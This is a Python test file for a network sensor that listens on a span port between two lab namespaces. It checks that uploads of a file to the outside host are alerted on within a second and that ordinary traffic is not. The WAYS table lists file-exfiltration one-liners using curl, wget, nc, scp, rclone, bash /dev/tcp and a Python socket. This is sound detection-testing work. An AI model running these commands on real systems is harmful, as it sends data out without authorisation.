#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""span_test.py - a sensor that only listens, beside two hosts: each on a port of a bridge that forgets at once who is where.

The sensor's interface has no address, as on a span port.  A test is a function; its name is the sentence.
"""
import datetime
import os
import shutil
import subprocess
import sys
import time

import live_test
from live_test import EGRET, MB, OUTSIDE, RULE, SIGNATURES, SINK, of, write
from wire import INSIDE, Skip, Wire, ends, run, until

TAKES = """
import socket
with socket.create_server(("0.0.0.0", 9000)) as server:
    while True:
        link, _ = server.accept()
        with link:
            while link.recv(1 << 20):
                pass
"""


class Span(Wire):
    """Two hosts as in Wire, their ports and the sensor's on one bridge."""

    def plug(self):
        self.sensor, self.bridge = self.inside + "-sensor", self.inside + "-bridge"
        for space in self.sensor, self.bridge:
            run("ip", "netns", "add", space)
        try:
            run("ip", "-n", self.bridge, "link", "add", "hub", "type", "bridge", "ageing_time", "0")
        except subprocess.CalledProcessError as why:
            self.close()
            raise Skip(f"no bridge is to be had: {why.stderr}") from why
        run("ip", "-n", self.bridge, "link", "set", "hub", "up")
        run("ip", "netns", "exec", self.sensor, "sh", "-c", "echo 1 >/proc/sys/net/ipv6/conf/all/disable_ipv6")
        for n, (space, link) in enumerate(((self.inside, "wire"), (self.outside, "far"), (self.sensor, "tap"))):
            run("ip", "link", "add", f"port{n}", "netns", self.bridge, "type", "veth", "peer", "name", link, "netns", space)
            run("ip", "-n", self.bridge, "link", "set", f"port{n}", "master", "hub", "up")
            run("ip", "-n", space, "link", "set", link, "up")
        for space, link, address in (self.inside, "wire", INSIDE), (self.outside, "far", OUTSIDE):
            run("ip", "-n", space, "addr", "add", f"{address}/24", "dev", link)
            run("ip", "-n", space, "route", "replace", "default", "dev", link)

    def close(self):
        super().close()
        for space in self.sensor, self.bridge:
            subprocess.run(["ip", "netns", "del", space], check=False, capture_output=True)


def said():
    with open("err", encoding="utf-8") as lines:
        return lines.read()


def listens(wire):
    write("rule.yml", RULE.format(title="much", number=1, limit=5 * MB))
    with open("err", "w", encoding="utf-8") as log:
        child = wire.start(wire.sensor, EGRET, "live", "-q", "-i", "tap", "-s", f"rules.paths={os.getcwd()}/rule.yml",
                           "-s", f"rules.signatures={SIGNATURES}", "-s", "stats.interval=1s", stderr=log)
    assert until(lambda: "listening on tap" in said()), said()
    wire.start(wire.outside, sys.executable, SINK)
    wire.start(wire.outside, sys.executable, "-c", TAKES)
    ready = ["ip", "netns", "exec", wire.inside, "curl", "-sf", "-o", "/dev/null", f"http://{OUTSIDE}/1"]
    assert until(lambda: subprocess.run(ready, check=False).returncode == 0), "two hosts on a bridge do not hear each other"
    return child


def over(child):
    assert ends(child) == 0, said()
    lost = of("stats")[-1]["stats"]["capture"]
    assert lost["kernel_packets"] > 0 and lost["kernel_drops"] == 0, lost


SSHD = """
ListenAddress {address}
HostKey {here}/host
AuthorizedKeysFile {here}/user.pub
StrictModes no
UsePAM no
PidFile none
Subsystem sftp internal-sftp
"""


def found(program):
    return shutil.which(program, path=os.environ["PATH"] + ":/usr/sbin")


def serves_ssh(wire):
    """sshd in the outside host, whose keys are of this minute."""
    for name in "host", "user":
        run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", name)
    os.makedirs("/run/sshd", exist_ok=True)
    write("sshd.conf", SSHD.format(address=OUTSIDE, here=os.getcwd()))
    wire.start(wire.outside, found("sshd"), "-D", "-e", "-f", "sshd.conf", stderr=subprocess.DEVNULL)


def serves_webdav(wire):
    os.mkdir("dav")
    wire.start(wire.outside, "rclone", "serve", "webdav", "--addr", f"{OUTSIDE}:8080", "dav", stderr=subprocess.DEVNULL)


def answers(wire, port):
    line = f"exec 3<>/dev/tcp/{OUTSIDE}/{port}"
    assert until(lambda: subprocess.run(["ip", "netns", "exec", wire.inside, "bash", "-c", line], check=False,
                                        capture_output=True).returncode == 0), port


# who serves what a way needs, and where
SERVERS = {"scp": (serves_ssh, 22, "sshd"), "rclone": (serves_webdav, 8080, "rclone")}
SSH = "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR"
# the last one is a program of one's own
WAYS = {
    "curl": f"curl -s -T a.bin -o /dev/null http://{OUTSIDE}/a.bin",
    "curl, slowly": f"curl -s --limit-rate 8M -T a.bin -o /dev/null http://{OUTSIDE}/a.bin",
    "wget": f"wget -q --method=PUT --body-file=a.bin -O /dev/null http://{OUTSIDE}/a.bin",
    "nc": f"nc -N {OUTSIDE} 9000 < a.bin",
    "scp": f"scp -q {SSH} -i user a.bin root@{OUTSIDE}:{{here}}/copy.bin",
    "rclone": f"rclone --config /dev/null copyto a.bin :webdav:a.bin --webdav-url http://{OUTSIDE}:8080",
    "bash": f"exec 3<>/dev/tcp/{OUTSIDE}/9000 && cat a.bin >&3",
    "python3": f"python3 -c 'import socket; socket.create_connection((\"{OUTSIDE}\", 9000)).sendall(open(\"a.bin\", \"rb\").read())'",
}


def each_way_to_send_a_file_out_is_an_alert_within_a_second_of_the_packet_that_crosses():
    wire = live_test.WIRE
    child = listens(wire)
    with open("a.bin", "wb") as to:
        to.write(os.urandom(MB) * 20)
    count = 0
    for way, line in WAYS.items():
        serve, port, server = SERVERS.get(way, (None, None, "bash"))
        if not shutil.which(way.split(",", maxsplit=1)[0]) or not found(server):
            continue
        if serve:
            serve(wire)
            answers(wire, port)
        sender = wire.start(wire.inside, "bash", "-c", line.replace("{here}", os.getcwd()))
        count += 1
        assert until(lambda count=count: len(of("alert")) == count), (way, said())
        now = datetime.datetime.now(datetime.timezone.utc)
        alert = of("alert")[-1]
        crossed = datetime.datetime.strptime(alert["timestamp"], "%Y-%m-%dT%H:%M:%S.%f%z")
        took = (now - crossed).total_seconds()
        assert 0 <= took < 1, (way, took)
        assert (alert["src_ip"], alert["dest_ip"], alert["in_iface"]) == (INSIDE, OUTSIDE, "tap"), alert
        assert sender.wait(timeout=60) == 0, way
        print(f"# {way}: {1000 * took:.0f} ms after the packet that crossed")
    assert count >= 3
    over(child)


def downloads_and_an_ordinary_mix_are_no_alert():
    wire = live_test.WIRE
    child = listens(wire)
    fetch = [f"http://{OUTSIDE}/{size}" for size in [20 * MB] + [100 * n for n in range(100)]]
    wire.within(wire.inside, "curl", "-s", *[word for url in fetch for word in ("-o", "/dev/null", url)])
    for _ in range(20):
        wire.within(wire.inside, "curl", "-s", "-d", "a=" + "b" * 2000, "-X", "PUT", "-o", "/dev/null", f"http://{OUTSIDE}/form")
    time.sleep(1.5)
    over(child)
    entered = sum(r["flow"]["bytes_toclient"] for r in of("flow"))
    assert not of("alert") and entered > 20 * MB, (of("alert"), entered)


if __name__ == "__main__":
    sys.exit(live_test.main(globals(), Span))
